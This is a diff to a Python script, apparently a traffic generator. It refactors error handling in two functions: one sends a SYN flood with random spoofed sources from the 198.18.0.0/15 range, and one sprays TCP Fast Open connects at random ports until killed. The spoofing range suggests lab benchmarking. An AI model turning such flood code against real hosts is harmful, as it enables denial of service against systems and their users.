@@ -11,6 +11,7 @@ Both run until killed; errors of single packets or connects are ignored on purpo
 from __future__ import annotations
 
 import argparse
+import contextlib
 import os
 import random
 import socket
@@ -64,10 +65,8 @@ def flood(addr: str, port: int, rate: float) -> None:
     while True:
         src = struct.pack("!I", (198 << 24 | 18 << 16) + random.getrandbits(17))
         cookie = os.urandom(8) if random.random() < 0.5 else None
-        try:
+        with contextlib.suppress(OSError):  # e.g. ENOBUFS: the flood is best effort
             raw.sendto(syn(src, dst, random.randint(1024, 65535), port, cookie), (addr, 0))
-        except OSError:
-            pass
         pacer.tick()
 
 
@@ -76,10 +75,8 @@ def spray(addr: str, rate: float) -> None:
     while True:
         s = socket.socket()
         s.setblocking(False)
-        try:
+        with contextlib.suppress(OSError):  # EINPROGRESS or refused: the SYN went out
             s.sendto(b"x", socket.MSG_FASTOPEN, (addr, random.randint(20000, 60000)))
-        except OSError:
-            pass
         time.sleep(0.05)
         s.close()
         pacer.tick()
